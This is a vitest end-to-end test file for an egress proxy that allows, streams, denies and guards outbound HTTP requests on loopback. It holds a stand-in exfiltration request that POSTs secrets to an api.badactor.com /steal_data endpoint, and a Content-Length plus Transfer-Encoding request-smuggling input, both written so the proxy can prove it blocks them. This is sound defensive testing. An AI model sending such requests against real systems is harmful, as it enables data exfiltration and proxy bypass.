// End to end: absolute-form HTTP(S) through a real egress on loopback: forward, stream, deny, guard, hygiene.
import { request as httpRequest } from 'node:http';
import { ProxyAgent, request as undiciRequest } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestEgress } from './support/egress-harness.ts';
import type { Origin } from './support/origin.ts';
import { parseHead, proxyRequest, rawExchange } from './support/proxy-clients.ts';
import { type Scene, SERVER, startScene } from './support/scene.ts';

let scene: Scene;
let http: Origin;
let https: Origin;
let deadPort: number;
let t: TestEgress;
let auth: string;

beforeAll(async () => {
  scene = await startScene();
  ({ http, https, deadPort, t, auth } = scene);
});

afterAll(() => scene?.close());

const tcp = () => ({ port: t.egress.address.port });
const lastRecord = () => t.records.at(-1)!;

describe('absolute-form HTTP', () => {
  it('forwards an allowed GET and returns the origin body intact, without proxy credentials', async () => {
    const before = http.seen.length;
    const res = await proxyRequest(
      tcp(),
      'GET',
      `http://api.slack.com:${http.port}/api/chat.postMessage?x=1`,
      {
        headers: { 'proxy-authorization': auth, 'x-custom': 'kept' },
      },
    );
    expect(res.status).toBe(200);
    expect(res.body).toBe('hello /api/chat.postMessage');
    expect(res.headers['x-origin']).toBe('yes');
    const seen = http.seen.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]!.url).toBe('/api/chat.postMessage?x=1');
    expect(seen[0]!.headers.host).toBe(`api.slack.com:${http.port}`);
    expect(seen[0]!.headers['x-custom']).toBe('kept');
    expect(seen[0]!.headers['proxy-authorization']).toBeUndefined();
    await t.waitForRecords(1);
    expect(lastRecord()).toMatchObject({
      server: SERVER,
      method: 'GET',
      scheme: 'http',
      host: 'api.slack.com',
      port: http.port,
      path: '/api/chat.postMessage',
      provider: 'slack.com',
      decision: 'allow',
      flow: 'slack',
      status: 200,
      dialed: `127.0.0.1:${http.port}`,
      error: null,
    });
  });

  it('forwards absolute-form https, verifying the origin certificate for the original name', async () => {
    const res = await proxyRequest(tcp(), 'GET', `https://api.slack.com:${https.port}/abs-tls`, {
      headers: { 'proxy-authorization': auth },
    });
    expect(res.status).toBe(200);
    expect(res.body).toBe('hello /abs-tls');
    expect(lastRecord()).toMatchObject({ scheme: 'https', path: '/abs-tls', decision: 'allow' });
  });

  it('streams a 1 MB body up and the same 1 MB back', async () => {
    const body = Buffer.alloc(1024 * 1024);
    for (let i = 0; i < body.length; i++) body[i] = i % 251;
    const agent = new ProxyAgent({ uri: t.egress.url, token: auth, proxyTunnel: false });
    const count = t.records.length;
    const res = await undiciRequest(`http://api.slack.com:${http.port}/echo`, {
      method: 'POST',
      body,
      dispatcher: agent,
    });
    const back = Buffer.from(await res.body.arrayBuffer());
    expect(res.statusCode).toBe(200);
    expect(back.equals(body)).toBe(true);
    await t.waitForRecords(count + 1);
    expect(lastRecord()).toMatchObject({
      decision: 'allow',
      bytesUp: body.length,
      bytesDown: body.length,
      status: 200,
    });
    await agent.close();
  });

  it('delivers server-sent events as they happen, not at the end', async () => {
    const arrivals: number[] = [];
    const started = Date.now();
    await new Promise<void>((resolve, reject) => {
      const req = httpRequest({
        host: '127.0.0.1',
        port: t.egress.address.port,
        path: `http://api.slack.com:${http.port}/sse?events=4&gapMs=150`,
        headers: { host: `api.slack.com:${http.port}`, 'proxy-authorization': auth },
        agent: false,
      });
      req.on('response', (res) => {
        expect(res.headers['content-type']).toBe('text/event-stream');
        res.on('data', (chunk: Buffer) => {
          for (const _ of chunk.toString().matchAll(/^data: /gm))
            arrivals.push(Date.now() - started);
        });
        res.on('end', resolve);
      });
      req.on('error', reject);
      req.end();
    });
    expect(arrivals).toHaveLength(4);
    // The first event reached the client long before the stream ended.
    expect(arrivals.at(-1)! - arrivals[0]!).toBeGreaterThanOrEqual(300);
  });

  it('answers a denied request with the flow response, blocked-by header, and the origin sees nothing', async () => {
    const before = http.seen.length;
    const res = await proxyRequest(
      tcp(),
      'POST',
      `http://api.badactor.com:${http.port}/steal_data`,
      {
        headers: { 'proxy-authorization': auth, 'content-type': 'application/json' },
        body: '{"secrets":true}',
      },
    );
    expect(res.status).toBe(403);
    expect(res.body).toBe('Forbidden Access');
    expect(res.headers['content-type']).toBe('text/plain');
    expect(res.headers['x-airlock-blocked-by']).toBe('slack/GenerateResponseForbidden');
    expect(http.seen.length).toBe(before);
    expect(lastRecord()).toMatchObject({
      decision: 'deny',
      flow: 'slack',
      status: 403,
      host: 'api.badactor.com',
      dialed: null,
    });
  });

  it('blocks a flow-allowed name that resolves to a loopback address outside allowAddresses', async () => {
    const res = await proxyRequest(tcp(), 'GET', `http://www.googleapis.com:${http.port}/x`, {
      headers: { 'proxy-authorization': auth },
    });
    expect(res.status).toBe(403);
    expect(res.headers['x-airlock-blocked-by']).toBe('address-guard/loopback');
    expect(res.body).toContain('127.0.0.2');
    expect(lastRecord()).toMatchObject({
      decision: 'deny',
      flow: null,
      processor: null,
      dialed: null,
    });
  });

  it('answers 502 with the error when the allowed origin refuses the connection', async () => {
    const res = await proxyRequest(tcp(), 'GET', `http://api.slack.com:${deadPort}/`, {
      headers: { 'proxy-authorization': auth },
    });
    expect(res.status).toBe(502);
    expect(res.headers['x-airlock-error']).toBe('ECONNREFUSED');
    expect(lastRecord()).toMatchObject({ decision: 'allow', status: 502, error: 'ECONNREFUSED' });
  });

  it('refuses an origin-form request with 400', async () => {
    const text = await rawExchange(
      tcp(),
      `GET /not-a-proxy-request HTTP/1.1\r\nHost: api.slack.com\r\nProxy-Authorization: ${auth}\r\n\r\n`,
      1_000,
    );
    const head = parseHead(text);
    expect(head.status).toBe(400);
    expect(head.headers['x-airlock-blocked-by']).toBe('hygiene/invalid-request');
  });

  it('refuses Content-Length with Transfer-Encoding and the origin sees nothing', async () => {
    const before = http.seen.length;
    const text = await rawExchange(
      tcp(),
      `POST http://api.slack.com:${http.port}/echo HTTP/1.1\r\nHost: api.slack.com:${http.port}\r\nProxy-Authorization: ${auth}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      1_000,
    );
    expect(parseHead(text).status).toBe(400);
    expect(http.seen.length).toBe(before);
  });

  it('answers oversized headers with 431 and stays up', async () => {
    const text = await rawExchange(
      tcp(),
      `GET http://api.slack.com:${http.port}/ HTTP/1.1\r\nHost: api.slack.com:${http.port}\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`,
      1_000,
    );
    expect(parseHead(text).status).toBe(431);
    const res = await proxyRequest(tcp(), 'GET', `http://api.slack.com:${http.port}/still-up`, {
      headers: { 'proxy-authorization': auth },
    });
    expect(res.status).toBe(200);
  });
});
